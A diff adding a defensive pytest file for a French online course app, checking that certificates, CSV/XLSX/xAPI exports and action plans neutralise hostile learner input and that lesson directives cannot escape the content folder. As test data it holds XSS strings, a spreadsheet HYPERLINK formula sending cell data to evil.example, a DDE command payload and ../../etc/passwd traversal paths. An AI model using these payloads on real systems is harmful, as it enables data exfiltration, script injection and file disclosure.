@@ -1,0 +1,220 @@
+"""Hostile input in what the course writes: the certificate PDF, every export (CSV, XLSX, xAPI),
+the action plan, and content paths that try to leave the content folder."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from collections.abc import Callable
+from datetime import date, timedelta
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+from markdown_it import MarkdownIt
+from pypdf import PdfReader
+
+from course.action_plan import action_plan
+from course.certificate import build_certificate_pdf
+from course.content import Course, load_course
+from course.exercises import tweet
+from course.exports.spreadsheets import results_csv, results_xlsx
+from course.exports.xapi import xapi_json
+from course.group_results import GroupResults, load_group_results
+from course.issuing import certificate_data
+from course.learners import NAME_MAX, InvalidIdentity, clean_name
+from course.progress import learner_progress
+from course.store import Store
+from course.workshops import Workshops
+from tests.conftest import PROJECT_ROOT, VALID_COURSE
+from tests.unit.group_data import ALL_TYPES, NOW, group_course, take
+
+NAMES = {
+    "html-image": "<img src=x onerror=alert(1)> Zoé",
+    "script": "<script>alert(1)</script> Zoé",
+    "markdown-image": "![x](http://evil.example/x.png) Zoé",
+    "markdown-link": "[clic](javascript:alert(1)) Zoé",
+    "bidi-override": "Zoé \u202eevil\u202c Martin\u2066",
+    "control": "Zoé\x00\x07\x1b[31m\r\n Martin",
+    "arabic": "زينب الحسيني",
+    "hebrew": "שרה לוי",
+    "long": "Zoé " + "A" * 10_000,
+}
+# Text a spreadsheet would run: formulas, DDE, and the prefixes OWASP lists (tab, CR).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+FORMULA_START = re.compile(r"^\s*[=+\-@]|^[\t\r]")
+CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]")
+render = MarkdownIt("commonmark").enable("table").enable("strikethrough").render
+
+
+def typed_name(typed: str) -> str:
+    """The name as the app keeps it: the form's NAME_MAX characters, then cleaned."""
+    return clean_name(typed[:NAME_MAX])
+
+
+# --- Names ----------------------------------------------------------------------------------
+
+
+def test_a_name_longer_than_the_limit_is_refused_in_french() -> None:
+    with pytest.raises(InvalidIdentity, match="trop long"):
+        clean_name(NAMES["long"])
+
+
+@pytest.mark.parametrize("typed", NAMES.values(), ids=NAMES.keys())
+def test_the_certificate_prints_the_name_as_plain_text(store: Store, typed: str) -> None:
+    course = load_course(VALID_COURSE)
+    assert course.settings is not None
+    learner, _ = store.create_learner(typed_name(typed))
+    issued = store.issue_certificate(learner, "Formation aux réseaux sociaux", 90.0, ["Les bases"])
+    pdf = build_certificate_pdf(certificate_data(issued, course.settings))
+    text = PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
+    assert not CONTROLS.search(text)
+    printed = re.sub(r"\s+", "", text)
+    name = re.sub(r"\s+", "", learner.name)
+    assert name in printed or "…" in text  # a name too wide for its line is cut, visibly
+    if "<" in typed or "[" in typed:
+        assert name in printed  # markup is printed as the characters typed, never interpreted
+
+
+# --- Exports ----------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def course() -> Course:
+    return group_course()
+
+
+def hostile_group(store: Store, course: Course) -> GroupResults:
+    """Learners, display names, workshop titles and short answers that are all formulas or
+    markup; each learner takes the exam (a wrong short answer) and answers a live question."""
+    workshops = Workshops(store)
+    texts = [*FORMULAS, NAMES["bidi-override"], NAMES["html-image"]]
+    for number, text in enumerate(texts):
+        at = NOW + timedelta(minutes=number)
+        learner, _ = store.create_learner(text)  # stored as given: the exports must still cope
+        workshop = workshops.open_workshop(text, now=at)
+        workshops.join(workshop.id, learner.id, text[:30], at)
+        take(store, ALL_TYPES, learner, {"texte": text, "vrai-faux": True}, at)
+        live = workshops.launch(workshop.id, "bases", "q1", at)
+        assert workshops.answer(live.id, learner.id, 1, 0.0, 0.0, at + timedelta(seconds=5))
+    return load_group_results(course, store, None)
+
+
+def test_no_csv_cell_can_run_as_a_formula(store: Store, course: Course) -> None:
+    text = results_csv(hostile_group(store, course)).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if FORMULA_START.match(cell)]
+    participants = {row[1] for row in rows[1:]}
+    assert {"'" + formula for formula in FORMULAS} <= participants  # kept, as text
+    workshops = {row[2] for row in rows[1:]}
+    assert "'" + FORMULAS[0] in workshops
+
+
+def test_no_workbook_cell_can_run_as_a_formula(store: Store, course: Course) -> None:
+    book = openpyxl.load_workbook(io.BytesIO(results_xlsx(hostile_group(store, course))))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert not [value for value in texts if FORMULA_START.match(value)]
+    shown = [row[1].value for row in book["Participants"].iter_rows(min_row=2)]
+    assert "'" + FORMULAS[1][:30] in shown  # « Nom affiché », neutralised too
+    answers = [str(c.value) for row in book["Réponses par question"].iter_rows() for c in row]
+    assert [a for a in answers if a.startswith("'")]  # the commonest wrong answer, neutralised
+
+
+def test_xapi_carries_learner_text_as_data(store: Store, course: Course) -> None:
+    workshops = Workshops(store)
+    names = [typed_name(typed) for key, typed in NAMES.items() if key != "long"]
+    for number, name in enumerate(names):  # names as the app stores them
+        learner, _ = store.create_learner(name)
+        answer = NAMES["markdown-link"]
+        take(store, ALL_TYPES, learner, {"texte": answer}, NOW + timedelta(minutes=number))
+        workshop = workshops.open_workshop(NAMES["script"])
+        workshops.join(workshop.id, learner.id, name[:30])
+        live = workshops.launch(workshop.id, "bases", "q1")
+        assert workshops.answer(live.id, learner.id, 0, 1.0, 1.0)
+    document = xapi_json(load_group_results(course, store, None))
+    statements = json.loads(document)  # valid JSON whatever the learners typed
+    actors = {s["actor"]["name"] for s in statements}
+    assert actors == set(names) and not [a for a in actors if CONTROLS.search(a)]
+    short = [s for s in statements if s["object"]["id"].endswith("/texte")]
+    assert len(short) == len(names)
+    assert {s["result"]["response"] for s in short} == {NAMES["markdown-link"]}  # text, as typed
+
+
+# --- Action plan --------------------------------------------------------------------------------
+
+TWEET = "\n".join(
+    [
+        "# Faux titre",
+        "> fausse citation",
+        "```",
+        "<!-- commentaire -->",
+        "![x](http://evil.example/x.png)",
+        "[clic](javascript:alert(1)) <script>alert(1)</script>",
+        "---",
+        "| a | b |",
+        "|---|---|",
+        "1. liste",
+    ]
+)
+
+
+def headings(markdown: str) -> list[str]:
+    return re.findall(r"<h\d>(.*?)</h\d>", render(markdown))
+
+
+@pytest.mark.parametrize("typed", NAMES.values(), ids=NAMES.keys())
+def test_the_action_plan_shows_what_the_learner_typed_as_text(typed: str) -> None:
+    course = load_course(PROJECT_ROOT)
+    progress = learner_progress(course, {}, {})
+    name = typed_name(typed)
+    plan = action_plan(name, progress, {"composer-tweet": tweet.compose_tweet(TWEET)}, date.today())
+    benign = action_plan("Zoé", progress, {"composer-tweet": tweet.compose_tweet("Merci")}, NOW)
+    rendered = render(plan)
+    assert not re.search(r"<(img|script|a|table|hr|ol|pre|code)\b", rendered), rendered
+    assert headings(plan) == headings(benign)  # no heading the learner wrote
+    assert rendered.count("<blockquote>") == render(benign).count("<blockquote>")
+    for line in TWEET.splitlines():  # each line is there, as typed
+        assert line in re.sub(r"\\(.)", r"\1", plan)
+
+
+# --- Content paths ----------------------------------------------------------------------------
+
+ESCAPES = {
+    "chart": "../../etc/passwd",
+    "mockup": "../data/maquettes.yaml",
+    "exercise": "../../course/__init__.py",
+    "illustration": "../../../../etc/passwd",
+}
+
+
+@pytest.mark.parametrize(("directive", "target"), ESCAPES.items(), ids=ESCAPES.keys())
+def test_a_directive_cannot_reach_outside_the_content_folder(
+    course_copy: Callable[..., Path], directive: str, target: str
+) -> None:
+    root = course_copy()
+    lesson = root / "lessons" / "02-mots.md"
+    body = "Une image.\n" if directive == "illustration" else ""
+    lesson.write_text(
+        lesson.read_text(encoding="utf-8") + f"\n```{{{directive}}} {target}\n{body}```\n",
+        encoding="utf-8",
+    )
+    course = load_course(root)
+    problems = [e for e in course.errors if e.file == "lessons/02-mots.md"]
+    assert len(problems) == 1 and target in problems[0].message
+    assert re.search("inconnu|sort du dossier", problems[0].message)
+    loaded: list[Any] = [*course.illustrations.values(), *course.charts, *course.mockups]
+    assert not [item for item in loaded if "root:" in str(item) or "import" in str(item)]
